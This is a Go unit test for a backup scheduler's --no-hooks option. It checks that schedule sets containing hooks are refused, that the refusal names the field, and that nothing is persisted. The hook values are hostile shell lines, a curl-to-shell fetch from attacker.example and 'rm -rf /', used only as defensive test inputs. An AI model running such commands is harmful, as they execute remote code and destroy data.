package scheduler

import (
	"errors"
	"strings"
	"testing"
	"time"

	"restic-manager/protocol"
)

// With --no-hooks a schedule set that carries a hook anywhere is refused
// with the field named and nothing written: the applied set, its version
// and the journal stay as they were. A set without hooks applies as usual.
func TestNoHooksRefusesASetWithAHook(t *testing.T) {
	t0 := time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC)
	store := newTestStore(t)
	s := newScheduler(t, store, newRecorder(store, true), Options{Location: time.UTC, Now: (&fakeClock{t: t0}).Now, NoHooks: true})
	mustApply(t, s, &protocol.ScheduleSet{Version: 1, Schedules: []protocol.Schedule{schedule("nightly", "0 3 * * *")}})

	for _, hook := range []func(*protocol.SourceGroup){
		func(g *protocol.SourceGroup) { g.PreHook = "curl http://attacker.example | sh" },
		func(g *protocol.SourceGroup) { g.PostHook = "rm -rf /" },
	} {
		withHook := schedule("hourly", "@hourly")
		hook(&withHook.SourceGroups[0])
		set := &protocol.ScheduleSet{Version: 2, Schedules: []protocol.Schedule{schedule("nightly", "0 3 * * *"), withHook}}
		v, err := s.Apply(set)
		if !errors.Is(err, protocol.ErrHooksDisabled) || v != 1 {
			t.Fatalf("Apply of a set with a hook = (%d, %v); want (1, ErrHooksDisabled)", v, err)
		}
		if !strings.Contains(err.Error(), "schedules[1].source_groups[0].") || !strings.Contains(err.Error(), "hooks are disabled on this host") {
			t.Errorf("refusal %q should name the field and say hooks are disabled on this host", err)
		}
	}
	if n := store.saves(); n != 1 {
		t.Errorf("SaveSchedule called %d times; want 1 (the refused sets were not written)", n)
	}
	if saved, err := store.LoadSchedule(); err != nil || saved.Set.Version != 1 || len(saved.Set.Schedules) != 1 {
		t.Fatalf("persisted set %+v, %v; want version 1 unchanged", saved.Set, err)
	}
	if _, ok := s.NextFires(1)["hourly"]; ok {
		t.Error("the refused set's schedule is armed")
	}
	mustApply(t, s, &protocol.ScheduleSet{Version: 2, Schedules: []protocol.Schedule{schedule("hourly", "@hourly")}})
}
